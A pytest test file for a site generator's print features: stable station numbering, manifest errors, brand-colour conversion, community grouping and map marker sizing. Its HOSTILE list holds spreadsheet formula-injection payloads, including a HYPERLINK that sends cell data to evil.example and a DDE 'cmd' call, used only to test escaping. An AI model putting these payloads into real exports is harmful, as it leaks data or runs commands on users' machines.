"""Print rules without rendering: stable numbers, spreadsheet formula guard, colours, grouping, card addresses."""

from __future__ import annotations

import csv
import functools
import io
import json
import shutil
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from PIL import Image, ImageCms

from generator.printing.card import short_address
from generator.printing.groups import split
from generator.printing.guidemap import guide_map_svg
from generator.printing.inks import BRAND_RED_CMYK, BRAND_RED_SRGB
from generator.printing.manifest import dump_manifest, load_manifest, numbers, with_new_stations
from generator.printing.pdfx import ICC_PROFILE
from generator.printing.table import FORMULA_START, station_rows, to_csv, to_xlsx
from generator.render import environment

BASE = "https://bee.example.org/"


def _numbered(network, day: date = date(2026, 1, 1)):
    return with_new_stations([], network, BASE, day)


def test_inserting_a_station_in_the_middle_keeps_every_number(network, sample: Path) -> None:
    """The 220 maps already handed out must keep matching the table after a station is added mid-file."""
    issued = load_manifest(sample / "print-manifest.json")
    before = numbers(issued)
    assert sorted(before.values()) == list(range(1, 34))
    middle = network.stations[10].model_copy(update={"id": "new-in-middle", "name": "新插入的驿站"})
    grown = replace(network, stations=(*network.stations[:10], middle, *network.stations[10:]))
    after = numbers(with_new_stations(issued, grown, BASE, date(2026, 12, 1)))
    assert {k: after[k] for k in before} == before
    assert after["new-in-middle"] == 34
    rows = station_rows(grown, after)
    assert [r.number for r in rows] == list(range(1, 35))  # the table reads in number order
    assert next(r for r in rows if r.id == "new-in-middle").number == 34
    svg = str(guide_map_svg(environment(sample.parent.parent.parent / "theme"), grown, numbers=after))
    for sid, number in after.items():
        assert f'data-number="{number}" data-station="{sid}"' in svg


def test_numbers_are_never_reused_after_a_closure(network) -> None:
    issued = _numbered(network)
    closed = network.stations[3].model_copy(update={"status": "closed", "status_since": date(2026, 5, 1)})
    changed = replace(network, stations=(*network.stations[:3], closed, *network.stations[4:]))
    extra = network.stations[0].model_copy(update={"id": "later", "name": "后来的驿站"})
    later = with_new_stations(issued, replace(changed, stations=(*changed.stations, extra)), BASE, date(2027, 1, 1))
    assert numbers(later)["later"] == max(numbers(issued).values()) + 1
    assert numbers(later)[closed.id] == numbers(issued)[closed.id]


def test_a_manifest_without_numbers_is_numbered_in_issue_then_data_order(network, tmp_path: Path) -> None:
    """Backward compatibility: entries written before numbers existed get them once, in a stable order."""
    issued = _numbered(network)
    raw = json.loads(dump_manifest(issued))
    for entry in raw["issued"]:
        del entry["number"]
        if entry["id"] == network.stations[-1].id:
            entry["first_issued"] = "2025-06-01"  # printed earlier than the others: it comes first
    path = tmp_path / "print-manifest.json"
    path.write_text(json.dumps(raw, ensure_ascii=False, indent=1), encoding="utf-8")
    legacy = load_manifest(path)
    assert all(e.number == 0 for e in legacy)
    got = numbers(with_new_stations(legacy, network, BASE, date(2026, 12, 1)))
    order = [network.stations[-1].id] + [s.id for s in network.stations[:-1]]
    assert [got[i] for i in order] == list(range(1, 34))
    again = with_new_stations(load_manifest(path), network, BASE, date(2027, 1, 1))
    assert numbers(again) == got  # the same order every time, whatever the build date


def test_duplicate_numbers_in_the_manifest_are_a_located_error(network, tmp_path: Path) -> None:
    from generator.printing.manifest import ManifestError

    text = dump_manifest(_numbered(network)).replace('"number": 2}', '"number": 1}')
    path = tmp_path / "print-manifest.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ManifestError) as exc:
        load_manifest(path)
    line = next(i for i, t in enumerate(text.splitlines(), 1) if '"number": 1}' in t and i > 4)
    assert exc.value.errors[0].line in {line, *[i for i, t in enumerate(text.splitlines(), 1) if '"number": 1}' in t]}


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def test_spreadsheets_never_hold_a_live_formula(network, tmp_path: Path) -> None:
    """OWASP CSV injection: hostile names, addresses and services come back as text, each with a leading '."""
    stations = []
    for i, st in enumerate(network.stations[: len(HOSTILE)]):
        bad = HOSTILE[i]
        extra = st.extra_services[0].model_copy(update={"name": bad}) if st.extra_services else None
        update = {"name": bad, "address": bad}
        if extra:
            update["extra_services"] = [extra]
        stations.append(st.model_copy(update=update))
    hostile = replace(network, stations=(*stations, *network.stations[len(HOSTILE) :]))
    rows = station_rows(hostile)
    from datetime import UTC, datetime

    xlsx = tmp_path / "t.xlsx"
    xlsx.write_bytes(to_xlsx(rows, "t", datetime(2026, 1, 1, tzinfo=UTC)))
    sheet = load_workbook(xlsx).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # 0 live formulas
    # A stored CR may come back as LF (XML 1.0 §2.11 normalises it unless it is written as _x000D_, which
    # openpyxl does only with some XML writers): compare with line ends normalised.
    texts = [c.value.replace("\r", "\n") for c in cells if isinstance(c.value, str)]
    csv_rows = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"), newline="")))[1:]
    for values, newline in ((texts, "\n"), ([v for r in csv_rows for v in r], "\r")):
        assert not [v for v in values if v.startswith((*FORMULA_START, "\n"))]  # 0 unescaped formula-leading cells
        for bad in HOSTILE:
            assert "'" + bad.replace("\r", newline) in values  # kept, as text
    assert sheet.cell(row=2, column=2).value == "'" + HOSTILE[0]


def test_brand_red_cmyk_is_the_profile_conversion_of_the_screen_red() -> None:
    """BRAND_RED_CMYK is #c62828 converted into the output-intent profile; read back it stays within ΔE*ab 10.

    (#c62828 lies just outside the SWOP gamut in b*: 8.7 is the closest any ink mix there gets.)
    """
    cmyk_profile = ImageCms.getOpenProfile(str(ICC_PROFILE))
    lab = ImageCms.createProfile("LAB", 6500)
    to_lab = ImageCms.buildTransform(cmyk_profile, lab, "CMYK", "LAB", renderingIntent=1)
    srgb_to_lab = ImageCms.buildTransform(ImageCms.createProfile("sRGB"), lab, "RGB", "LAB", renderingIntent=1)
    ink = Image.new("CMYK", (1, 1), tuple(round(v * 255) for v in BRAND_RED_CMYK))
    rgb = Image.new("RGB", (1, 1), tuple(int(BRAND_RED_SRGB[i : i + 2], 16) for i in (1, 3, 5)))

    def lab_of(im, t):
        L, a, b = ImageCms.applyTransform(im, t).getpixel((0, 0))
        return L * 100 / 255, a - 128, b - 128

    d = [x - y for x, y in zip(lab_of(ink, to_lab), lab_of(rgb, srgb_to_lab), strict=True)]
    assert sum(v * v for v in d) ** 0.5 < 10
    to_cmyk = ImageCms.buildTransform(ImageCms.createProfile("sRGB"), cmyk_profile, "RGB", "CMYK", renderingIntent=1)
    converted = ImageCms.applyTransform(rgb, to_cmyk).getpixel((0, 0))
    assert [round(v / 255, 2) for v in converted] == pytest.approx(list(BRAND_RED_CMYK), abs=0.02)


def test_large_networks_split_by_whole_communities(network) -> None:
    assert [g.key for g in split(network, 400)] == [""]
    groups = split(network, 5)
    assert len(groups) > 1 and all(len(g.stations) <= 5 or len(g.communities) == 1 for g in groups)
    seen = [c for g in groups for c in g.communities]
    assert len(seen) == len(set(seen))  # a community is never cut in two
    assert sorted(s.id for g in groups for s in g.stations) == sorted(s.id for s in network.stations)


def test_short_address_drops_city_and_district() -> None:
    assert short_address("无锡市新吴区锡兴路1号江溪街道办事处一楼") == "锡兴路1号江溪街道办事处一楼"
    assert short_address("江苏省无锡市新吴区长江路16号") == "长江路16号"
    assert short_address("长江路16号") == "长江路16号"


def _git(folder: Path, *args: str) -> None:
    import subprocess

    ident = ["-c", "user.name=Test", "-c", "user.email=test@example.org", "-c", "commit.gpgsign=false"]
    subprocess.run(["git", *ident, *args], cwd=folder, check=True, capture_output=True)


def test_a_deleted_printed_station_is_reported_at_its_entry_and_where_it_was(sample: Path, tmp_path: Path) -> None:
    """Located at the manifest entry (every copy); in a git checkout the message also says which line of the last
    commit's stations.yaml held the station, the place to put it back."""
    from generator.data import load_network
    from generator.printing.manifest import ManifestError, check_manifest

    data = tmp_path / "stations.yaml"
    shutil.copy(sample / "stations.yaml", data)
    shutil.copytree(sample / "content" / "images", tmp_path / "content" / "images")
    manifest = tmp_path / "print-manifest.json"
    shutil.copy(sample / "print-manifest.json", manifest)
    lines = data.read_text(encoding="utf-8").splitlines(keepends=True)
    start = next(i for i, line in enumerate(lines) if line.strip() == "- id: xinyun")
    end = next(i for i in range(start + 1, len(lines)) if lines[i].startswith("  - id:"))
    entry = next(i for i, line in enumerate(manifest.read_text(encoding="utf-8").splitlines(), 1) if '"xinyun"' in line)
    issued = load_manifest(manifest)

    def message() -> str:
        network = load_network(data)
        with pytest.raises(ManifestError) as exc:
            check_manifest(issued, network, "print-manifest.json", data)
        (error,) = exc.value.errors
        assert (error.file, error.line, error.col) == ("print-manifest.json", entry, 1)
        return error.message

    data.write_text("".join(lines[:start] + lines[end:]), encoding="utf-8")
    url = "https://bee.example.org/s/xinyun/"
    first = next(e.first_issued for e in issued if e.id == "xinyun")
    without_history = f"驿站 'xinyun' 的网址 {url} 在 {first} 印上了海报，但 stations.yaml 里已经没有这个驿站"
    assert message() == without_history
    data.write_text("".join(lines), encoding="utf-8")
    _git(tmp_path, "init", "-q")
    _git(tmp_path, "add", "stations.yaml")
    _git(tmp_path, "commit", "-q", "-m", "data")
    data.write_text("".join(lines[:start] + lines[end:]), encoding="utf-8")
    assert message() == without_history + f"，上一次提交时它写在 stations.yaml 第 {start + 1} 行"


@pytest.mark.parametrize(
    ("text", "where", "said"),
    [
        (b'{"issued": [\n  {"id": "a", "url": "u", "first_issued": "2026-01-01"\n', (3, 1), "JSON 格式不对"),
        (b'{"issued": "none"}', (1, 1), "没有 issued 列表"),
        (b'{"note": "\xff", "issued": []}', (1, 1), "不是 UTF-8 编码的文本"),
        (
            b'{"issued": [\n    {"id": "a", "url": "u", "first_issued": "2026-01-01"},\n'
            b'    {"id": "b", "url": "u"}\n]}',
            (3, 5),
            "第 2 项写法不对：缺少文字字段 'first_issued'",
        ),
        (
            b'{"issued": [\n    {"id": "a", "url": "u", "first_issued": "2026-13-01"}]}',
            (2, 5),
            "第 1 项写法不对：first_issued '2026-13-01' 不是日期",
        ),
        (b'{"issued": [\n    ["a"]]}', (2, 5), "第 1 项写法不对"),
    ],
    ids=["truncated", "not-a-list", "not-utf8", "missing-key", "bad-date", "not-an-object"],
)
def test_a_broken_manifest_is_a_located_error(tmp_path: Path, text: bytes, where: tuple[int, int], said: str) -> None:
    from generator.printing.manifest import ManifestError

    path = tmp_path / "print-manifest.json"
    path.write_bytes(text)
    with pytest.raises(ManifestError) as exc:
        load_manifest(path)
    (error,) = exc.value.errors
    assert (error.file, error.line, error.col) == ("print-manifest.json", *where) and said in error.message


@functools.cache
def _widest_bold_digit() -> float:
    """The widest digit's advance (em) of the bold face fontconfig picks for the print files, read with fontTools."""
    import subprocess

    from fontTools.ttLib import TTCollection

    path, index = subprocess.check_output(["fc-match", "-f", "%{file} %{index}", "Noto Sans CJK SC:bold"]).split()
    font = TTCollection(path.decode()).fonts[int(index)]
    cmap, advances, em = font.getBestCmap(), font["hmtx"], font["head"].unitsPerEm
    return max(advances[cmap[ord(d)]][0] for d in "0123456789") / em


@pytest.mark.parametrize("number", [1, 42, 999, 1000, 9999, 10000, 99999, 100000])
def test_a_marker_number_fits_inside_its_circle_at_any_network_size(number: int, network) -> None:
    """Stable numbers reach 5 digits in a provincial network: the map sets them smaller instead of letting them
    run out of the 13-unit circle. Widths come from the real font's digit advances."""
    from generator.printing.guidemap import DIGIT_EM, NUMBER_WIDTH, Marker

    widest = _widest_bold_digit()
    assert widest <= DIGIT_EM
    marker = Marker(number, network.stations[0], 100.0, 100.0)
    width = len(str(number)) * widest * marker.font
    assert width <= NUMBER_WIDTH and marker.font >= 6
    assert abs(marker.baseline - marker.font * 0.36 - marker.y) <= 1.2  # vertically centred on the circle
